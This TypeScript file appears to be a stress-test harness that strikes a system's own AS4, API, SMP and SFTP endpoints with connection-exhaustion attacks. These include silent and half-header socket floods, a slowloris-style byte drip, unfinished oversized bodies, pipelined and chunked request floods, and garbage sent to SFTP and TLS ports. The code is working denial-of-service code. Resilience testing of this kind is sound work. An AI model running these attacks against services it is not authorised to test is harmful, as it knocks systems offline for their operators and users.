import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attack } from './attack.ts';
import { type Installation, OURS } from './installation.ts';
import { connectTo } from './senders.ts';

const MIB = 1_048_576;
/** How long connections are held, once they have said what they say. */
const HELD_MS = 8_000;

interface Connections {
  name: string;
  url: (target: Installation) => string;
  count: number;
  /** What each says, and then nothing more. */
  says: string | Buffer;
}

const connections = ({ name, url, count, says }: Connections): Attack =>
  attack(`connections-${name}`, async (target) => ({
    bytes: count * says.length,
    strike: async () => {
      const opened = await Promise.allSettled(
        Array.from({ length: count }, () => connectTo(target, url(target))),
      );
      const sockets = opened.flatMap((one) => (one.status === 'fulfilled' ? [one.value] : []));
      for (const socket of sockets) {
        socket.on('error', () => undefined).resume();
        socket.write(says);
      }
      await sleep(HELD_MS);
      return ended(sockets, count);
    },
  }));

function ended(sockets: Socket[], count: number): string {
  const open = sockets.filter((socket) => !socket.closed).length;
  for (const socket of sockets) socket.destroy();
  return `${sockets.length} of ${count} taken, ${open} open after ${HELD_MS / 1000} s`;
}

/** Who brings a byte now and then. */
const dripping = ({ name, url, count, head }: Omit<Connections, 'says'> & { head: string }): Attack =>
  attack(`slow-${name}`, async (target) => ({
    bytes: count * head.length,
    strike: async () => {
      const sockets = await Promise.all(Array.from({ length: count }, () => connectTo(target, url(target))));
      for (const socket of sockets) {
        socket.on('error', () => undefined).resume();
        socket.write(head);
      }
      const drip = setInterval(() => {
        for (const socket of sockets) if (socket.writable) socket.write('a');
      }, 100);
      await sleep(2.5 * HELD_MS);
      clearInterval(drip);
      const open = sockets.filter((socket) => !socket.closed).length;
      for (const socket of sockets) socket.destroy();
      return `${open} of ${count} open after ${(2.5 * HELD_MS) / 1000} s`;
    },
  }));

const head = (path: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/related; boundary=b\r\nContent-Length: ${length}\r\n\r\n`;
const as4Url = ({ as4Url }: Installation): string => as4Url;
const api = ({ api }: Installation): string => api;
const smp = ({ smpUrl }: Installation): string => smpUrl;
const sftp = ({ sftpUrl }: Installation): string => sftpUrl;
const OURS_AT_SMP = `iso6523-actorid-upis::${OURS}`;
const unfinished = Buffer.concat([Buffer.from(head('/as4', 40 * MIB)), Buffer.alloc(39 * MIB)]);

/** Who holds a line and says little. */
export const CONNECTION_ATTACKS: Attack[] = [
  connections({ name: 'as4-unfinished', url: as4Url, count: 20, says: unfinished }),
  connections({ name: 'as4-silent', url: as4Url, count: 500, says: '' }),
  connections({ name: 'as4-half-header', url: as4Url, count: 500, says: 'POST /as4 HTTP/1.1\r\nHost: ' }),
  connections({ name: 'api-silent', url: api, count: 2_000, says: '' }),
  connections({ name: 'api-half-header', url: api, count: 2_000, says: 'GET /v1/account HTTP/1.1\r\nX: ' }),
  connections({ name: 'api-half-body', url: api, count: 1_000, says: head('/v1/auth/login', 900_000) }),
  connections({
    name: 'api-pipelined',
    url: api,
    count: 20,
    says: 'GET /v1/account HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000),
  }),
  connections({
    name: 'api-chunks',
    url: api,
    count: 20,
    says: `POST /v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${'1\r\n \r\n'.repeat(100_000)}`,
  }),
  connections({ name: 'smp-silent', url: smp, count: 500, says: '' }),
  connections({
    name: 'smp-pipelined',
    url: smp,
    count: 20,
    says: `GET /${encodeURIComponent(OURS_AT_SMP)} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(1_000),
  }),
  connections({
    name: 'smp-writes',
    url: smp,
    count: 20,
    says: `PUT /${encodeURIComponent(OURS_AT_SMP)} HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YTpi\r\nContent-Length: 3\r\n\r\n<a>`.repeat(
      500,
    ),
  }),
  connections({ name: 'sftp-silent', url: sftp, count: 500, says: '' }),
  connections({ name: 'sftp-garbage', url: sftp, count: 100, says: Buffer.alloc(4 * MIB, 0x61) }),
  connections({
    name: 'sftp-packets',
    url: sftp,
    count: 100,
    says: Buffer.concat([Buffer.from('SSH-2.0-attacker\r\n'), Buffer.alloc(MIB, 0x01)]),
  }),
  dripping({ name: 'as4-body', url: as4Url, count: 200, head: head('/as4', 40 * MIB) }),
  dripping({ name: 'api-body', url: api, count: 200, head: head('/v1/auth/login', 900_000) }),
  dripping({ name: 'api-header', url: api, count: 200, head: 'GET /v1/account HTTP/1.1\r\n' }),
  connections({ name: 'tls-garbage', url: api, count: 500, says: Buffer.alloc(16_384, 0x16) }),
];
